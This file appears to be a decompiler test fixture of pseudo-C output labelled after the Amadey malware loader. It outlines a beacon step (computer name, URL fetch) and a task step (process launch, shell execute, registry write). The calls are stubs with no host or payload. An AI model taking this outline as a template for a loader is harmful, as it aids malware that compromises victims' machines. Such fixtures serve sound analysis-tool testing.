// amadey: decompiler fixture output
#include <windows.h>

int32_t main(void *arg)
{
    int32_t v1 = 0;
    if (beacon(arg) == 0) {
        return -1;
    }
    v1 = run_task(arg);
    return v1;
}

int32_t beacon(void *arg)
{
    int32_t v1 = 0;
    if (GetComputerNameA(arg) == 0) {
        return -1;
    }
    v1 = InternetOpenUrlA(arg);
    if (InternetReadFile(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t run_task(void *arg)
{
    int32_t v1 = 0;
    if (CreateProcessA(arg) == 0) {
        return -1;
    }
    v1 = ShellExecuteA(arg);
    if (RegSetValueExA(arg) == 0) {
        return -1;
    }
    return v1;
}
